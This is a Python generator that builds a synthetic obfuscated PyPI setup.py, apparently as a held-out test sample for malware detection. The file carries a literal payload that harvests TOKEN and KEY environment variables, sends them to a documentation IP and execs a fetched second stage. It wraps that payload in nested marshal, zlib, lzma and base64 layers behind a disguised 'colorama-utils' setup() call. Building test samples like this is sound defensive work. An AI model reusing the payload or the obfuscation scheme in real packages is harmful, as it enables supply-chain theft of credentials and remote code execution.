"""A stand-in for issue 15's held-out 667 kB obfuscated PyPI setup.py: marshal/zlib/base64/lzma/b85/b32 layers
nested several times under long generated names, `__import__` of built names, reversed and chunked strings and a big
generated-names table, three layer chains per file, around an ordinary `setup()` call. Generated (seeded), inert:
the innermost payload only names a documentation address (TEST-NET-2), and nothing here is ever run."""
from __future__ import annotations

import base64
import lzma
import marshal
import random
import zlib

# What the innermost layer of such packages does: fetch a second stage and run it, read tokens, start at install.
PAYLOAD = (
    "import os, urllib.request, json\n"
    "def _grab():\n"
    "    found = {k: v for k, v in os.environ.items() if 'TOKEN' in k or 'KEY' in k}\n"
    "    req = urllib.request.Request('http://198.51.100.23/c', data=json.dumps(found).encode())\n"
    "    urllib.request.urlopen(req)\n"
    "    exec(urllib.request.urlopen('http://198.51.100.23/stage2').read())\n"
    "_grab()\n"
)


class _Names:
    """Long generated identifiers in the styles obfuscators use (lIlI…, _0x…, O0O0…), never repeated."""

    def __init__(self, rng: random.Random):
        self.rng, self.used = rng, set()

    def __call__(self) -> str:
        while True:
            style = self.rng.randrange(3)
            if style == 0:
                name = "".join(self.rng.choice("lI") for _ in range(self.rng.randint(24, 48)))
            elif style == 1:
                name = "_0x" + "".join(self.rng.choice("0123456789abcdef") for _ in range(self.rng.randint(12, 28)))
            else:
                name = "O" + "".join(self.rng.choice("O0") for _ in range(self.rng.randint(24, 40)))
            if name not in self.used:
                self.used.add(name)
                return name


def _built(text: str, rng: random.Random) -> str:
    """An expression building `text` at run time (char codes, bytes, joined pieces, a reversed literal)."""
    style = rng.randrange(4)
    if style == 0:
        return "''.join(map(chr, [" + ", ".join(str(ord(c)) for c in text) + "]))"
    if style == 1:
        return "bytes([" + ", ".join(str(ord(c)) for c in text) + "]).decode()"
    if style == 2:
        cut = max(1, len(text) // 2)
        return f"{text[:cut]!r} + {text[cut:]!r}"
    return f"{text[::-1]!r}[::-1]"


def _junk(names: _Names, rng: random.Random, size: int) -> str:
    """A generated-names table: dead assignments of random strings, numbers and lookups, about `size` bytes."""
    lines, total, table = [], 0, []
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    while total < size:
        name = names()
        kind = rng.randrange(4)
        if kind == 0 or not table:
            line = f"{name} = '{''.join(rng.choice(alphabet) for _ in range(rng.randint(40, 160)))}'"
        elif kind == 1:
            line = f"{name} = {rng.randint(0, 1 << 48)} ^ {rng.randint(0, 1 << 48)}"
        elif kind == 2:
            line = f"{name} = [{', '.join(rng.choice(table) for _ in range(rng.randint(2, 6)))}]"
        else:
            line = f"{name} = {rng.choice(table)}[{rng.randint(0, 30)}:{rng.randint(31, 90)}]"
        table.append(name)
        lines.append(line)
        total += len(line) + 1
    return "\n".join(lines) + "\n"


def _imports(names: _Names, rng: random.Random) -> tuple[str, dict[str, str]]:
    """Module and function aliases reached through `__import__` of built names: the alias table and its lines."""
    alias, lines = {}, []
    for module in ("base64", "zlib", "lzma", "marshal", "builtins"):
        alias[module] = names()
        lines.append(f"{alias[module]} = __import__({_built(module, rng)})")
    alias["exec"] = names()
    lines.append(f"{alias['exec']} = getattr({alias['builtins']}, {_built('exec', rng)})")
    for module, fn in (("base64", "b64decode"), ("base64", "b85decode"), ("base64", "b32decode"),
                       ("zlib", "decompress"), ("lzma", "decompress"), ("marshal", "loads")):
        alias[f"{module}.{fn}"] = names()
        lines.append(f"{alias[f'{module}.{fn}']} = getattr({alias[module]}, {_built(fn, rng)})")
    return "\n".join(lines) + "\n", alias


def _wrap(inner: str, step: int, names: _Names, rng: random.Random, junk: int) -> str:
    """One layer around `inner` (Python source): junk, the aliases, then the decoding call for this step."""
    head, a = _imports(names, rng)
    body = _junk(names, rng, junk)
    kind = step % 5
    if kind == 0:  # exec(marshal.loads(zlib.decompress(base64.b64decode(...))))
        blob = base64.b64encode(zlib.compress(marshal.dumps(compile(inner, "<layer>", "exec")), 9)).decode()
        call = f"{a['exec']}({a['marshal.loads']}({a['zlib.decompress']}({a['base64.b64decode']}(b'{blob}'))))"
    elif kind == 1:  # lzma under b85, in chunks added up in a loop
        blob = base64.b85encode(lzma.compress(inner.encode())).decode()
        var, parts = names(), [blob[i:i + 76] for i in range(0, len(blob), 76)]
        call = (f"{var} = ''\nfor _p in [" + ",\n    ".join(repr(p) for p in parts) + "]:\n    " + f"{var} += _p\n"
                + f"{a['exec']}({a['lzma.decompress']}({a['base64.b85decode']}({var})))")
    elif kind == 2:  # b32 of a reversed literal
        blob = base64.b32encode(zlib.compress(inner.encode(), 9)).decode()[::-1]
        call = f"{a['exec']}({a['zlib.decompress']}({a['base64.b32decode']}('{blob}'[::-1])))"
    elif kind == 3:  # plain exec(base64.b64decode(...)) spelled out, joined from pieces
        blob = base64.b64encode(inner.encode()).decode()
        parts = [blob[i:i + 512] for i in range(0, len(blob), 512)]
        call = f"exec(__import__('base64').b64decode(''.join([" + ", ".join(repr(p) for p in parts) + "])))"
    else:  # compile() of zlib under base64, the code object run through exec
        blob = base64.b64encode(zlib.compress(inner.encode(), 9)).decode()
        call = (f"{a['exec']}(compile({a['zlib.decompress']}({a['base64.b64decode']}('{blob}')), "
                f"{_built('<string>', rng)}, 'exec'))")
    return head + body + call + "\n"


def obfuscated_setup(size: int = 667_000, seed: int = 15, depth: int = 6, chains: int = 3) -> bytes:
    """The setup.py: `chains` independent layer chains `depth` deep (each layer padded with its own generated-names
    table), an ordinary setup() call, and top-level generated names filling it up to about `size` bytes."""
    rng = random.Random(seed)
    names = _Names(rng)
    pieces = []
    for chain in range(chains):
        layer = PAYLOAD
        for step in range(depth):
            layer = _wrap(layer, step + chain, names, rng, junk=size // 95 * (step + 1))
        pieces.append(layer)
    setup_call = ("from setuptools import setup, find_packages\n\n"
                  "setup(\n    name='colorama-utils',\n    version='0.4.7',\n    packages=find_packages(),\n"
                  "    install_requires=['requests'],\n    description='Terminal colour helpers',\n)\n")
    used = sum(len(p) for p in pieces) + len(setup_call)
    top = _junk(names, rng, max(0, size - used))
    cut = top.find("\n", len(top) // 2) + 1  # on a line boundary
    order = [top[:cut], pieces[0], top[cut:]] + pieces[1:]
    return ("# -*- coding: utf-8 -*-\n" + "".join(order) + setup_call).encode()


if __name__ == "__main__":
    import sys

    out = obfuscated_setup(int(sys.argv[1]) if len(sys.argv) > 1 else 667_000)
    sys.stdout.buffer.write(out)
